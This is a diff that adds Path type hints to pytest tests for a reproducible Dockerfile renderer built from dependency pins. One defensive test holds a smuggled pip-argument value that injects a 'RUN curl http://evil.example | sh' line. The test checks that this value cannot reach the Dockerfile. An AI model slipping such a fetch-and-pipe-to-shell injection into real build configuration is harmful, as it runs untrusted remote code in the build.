@@ -40,7 +40,7 @@ def resolve_render(path, settings: Settings=SETTINGS):
 
 
 @pytest.fixture(scope="module")
-def rendered(stack_pins):
+def rendered(stack_pins: Path):
     return resolve_render(stack_pins)
 
 
@@ -55,7 +55,7 @@ def contents(context_path, prefix) -> dict[str, str]:
                 for m in tar.getmembers() if m.name.startswith(prefix) and m.isfile()}
 
 
-def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered, stack_pins, tmp_path: Path,
+def test_render_is_byte_identical_across_runs_cwd_and_cache_dir(rendered, stack_pins: Path, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
     first = rendered[2]
     again = resolve_render(stack_pins)[2]
@@ -156,7 +156,7 @@ def test_context_is_normalised_sorted_and_complete(rendered) -> None:
         assert exported == expected
 
 
-def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered, stack_pins, tmp_path: Path) -> None:
+def test_verl_only_change_keeps_everything_before_the_verl_stage(rendered, stack_pins: Path, tmp_path: Path) -> None:
     _, _, first = rendered
     pins, _, changed = resolve_render(variant_pins(tmp_path, "verl", 34, pins_path=stack_pins))
     before, after = first.dockerfile.split("# stage: verl")[0], changed.dockerfile.split("# stage: verl")[0]
@@ -204,7 +204,7 @@ def _bypass(pins, component="verl", pip_args=None, env=None):
     return pins.model_copy(update={"components": comps})
 
 
-def test_injection_in_pins_never_reaches_the_dockerfile(rendered, stack_pins) -> None:
+def test_injection_in_pins_never_reaches_the_dockerfile(rendered, stack_pins: Path) -> None:
     pins, resolved, _ = rendered
     evil = "--no-deps\nRUN curl http://evil.example | sh"
     data = pins_mod.read_yaml(Path(stack_pins).read_text())
